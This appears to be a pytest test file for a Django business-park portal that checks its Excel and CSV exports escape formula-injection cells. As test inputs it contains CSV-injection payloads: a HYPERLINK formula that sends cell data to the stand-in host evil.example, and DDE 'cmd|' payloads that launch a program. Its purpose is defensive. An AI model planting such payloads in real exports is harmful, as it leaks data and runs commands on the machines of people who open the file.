"""Every export is formula-safe: text cells beginning with = + - @ tab or CR get a leading
quote, headers copied from an upload included; numbers stay numbers (parkportal.exports)."""

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from enterprises.models import Enterprise, ImportBatch
from parkportal.exports import neutralise_cell
from tests.imports import files

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
EVIL_HEADER = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'


def assert_formula_safe(workbook_bytes: bytes) -> int:
    """No formula cell and no text cell a spreadsheet would read as one; returns the number
    of text cells checked."""
    workbook = openpyxl.load_workbook(io.BytesIO(workbook_bytes))
    checked = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(TRIGGERS), (cell.coordinate, cell.value)
                    checked += 1
    return checked


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_text_cells_are_quoted(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-5, 3.5, 0, None, "", "普通文本", "1-2"])
def test_numbers_and_plain_text_are_untouched(value):
    assert neutralise_cell(value) == value


def test_import_error_report_has_no_formula_cell(client, admin_user, park, industries):
    client.force_login(admin_user)
    # CSV: the cells arrive as the literal text (openpyxl would store "=..." as a formula).
    table = [[*files.HEADER, EVIL_HEADER],
             *[[*row, "x"] for row in files.rows(2)],
             ["3", "@恶意公司", "BAD", "-5", "", "", "", "+cmd|' /C calc'!A0"]]
    response = client.post(reverse("imports:upload"),
                           {"file": SimpleUploadedFile("名单.csv", files.csv_bytes(table))})
    assert response.status_code == 302
    batch = ImportBatch.objects.get()
    assert batch.rejected_count == 1
    response = client.get(f"/enterprises/import/{batch.pk}/errors.xlsx")
    assert response.status_code == 200
    assert assert_formula_safe(response.content) > 5
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    assert "'" + EVIL_HEADER in header  # the header kept, as text
    data = [cell.value for cell in sheet[2]]
    assert data[0] == 5  # the row number (title, header, two rows, then it) stays a number
    assert "'@恶意公司" in data


def test_enterprise_list_exports_are_formula_safe(client, admin_user, park, industries):
    Enterprise.objects.create(park=park, name="=HYPERLINK(\"x\")", credit_code=files.code(1),
                              origin="-西安", contact_person="@张三",
                              registered_capital="1200.50")
    client.force_login(admin_user)
    xlsx = client.get(reverse("enterprises:list"), {"_export": "xlsx"})
    assert xlsx.status_code == 200
    assert assert_formula_safe(xlsx.content) > 3
    values = [c for row in openpyxl.load_workbook(io.BytesIO(xlsx.content)).active.values
              for c in row]
    assert "'=HYPERLINK(\"x\")" in values
    response = client.get(reverse("enterprises:list"), {"_export": "csv"})
    text = response.content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'=HYPERLINK(\"x\")" in cells
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]


def test_project_list_and_dashboard_workbook_are_formula_safe(client, leader, project):
    project.name = "=cmd|' /C calc'!A0"
    project.save()
    client.force_login(leader)
    response = client.get(reverse("projects:list"), {"_export": "xlsx"})
    assert response.status_code == 200
    assert assert_formula_safe(response.content) > 1
    response = client.get(reverse("dashboard:index"),
                          {"park": project.park.slug, "year": 2024, "quarter": 1,
                           "format": "xlsx"})
    assert response.status_code == 200
    assert assert_formula_safe(response.content) > 10
    numbers = [c for ws in openpyxl.load_workbook(io.BytesIO(response.content)).worksheets
               for row in ws.values for c in row if isinstance(c, int | float)]
    assert numbers  # amounts stay numeric cells
